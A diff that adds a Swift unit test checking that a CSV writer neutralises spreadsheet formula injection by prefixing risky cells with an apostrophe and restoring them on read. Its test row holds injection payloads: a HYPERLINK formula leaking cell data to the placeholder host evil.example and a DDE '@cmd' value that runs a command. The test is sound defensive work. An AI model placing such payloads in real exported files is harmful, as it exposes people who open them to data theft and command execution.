@@ -49,6 +49,28 @@ struct CSVTests {
         #expect(read == rows)
     }
 
+    /// Cells a spreadsheet would run as formulas are written behind a `'`, and read back as they were,
+    /// including values that already begin with apostrophes.
+    @Test func formulaCellsAreWrittenAsTextAndReadBackWhole() {
+        let row = [
+            "=HYPERLINK(\"http://evil.example/?x=\"&A2,\"Click me\")", "@cmd|' /C calc'!A0", "+49 30 1234", "-2+3",
+            "\t=1+1", "'=already", "''@twice", "'plain", "it's", "a=b", "", "'", "\r=x",
+        ]
+        var bytes: [UInt8] = []
+        CSVWriter.append(row, to: &bytes)
+        var reader = CSVReader()
+        let text = String(decoding: bytes, as: UTF8.self)
+        #expect(text.hasPrefix("\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A2,\"\"Click me\"\")\",'@cmd|' /C calc'!A0,'+49 30 1234,'-2+3,'\t=1+1,"))
+        #expect(text.hasSuffix(",''=already,'''@twice,'plain,it's,a=b,,',\"'\r=x\"\r\n"))
+        #expect((reader.feed(bytes) + reader.finish()).map(\.fields) == [row])
+        // No cell of the file begins with a character a spreadsheet evaluates.
+        for field in row {
+            let cell = CSVFormulaGuard.protect(field)
+            #expect(!["=", "+", "-", "@", "\t", "\r"].contains(cell.first.map(String.init) ?? ""), "\(cell)")
+            #expect(CSVFormulaGuard.unprotect(cell) == field)
+        }
+    }
+
     @Test func namesInOneCell() {
         let names = ["VIP", "a|b", "back\\slash", "Kunde, alt"]
         #expect(CSVNameList.split(CSVNameList.join(names)) == names)
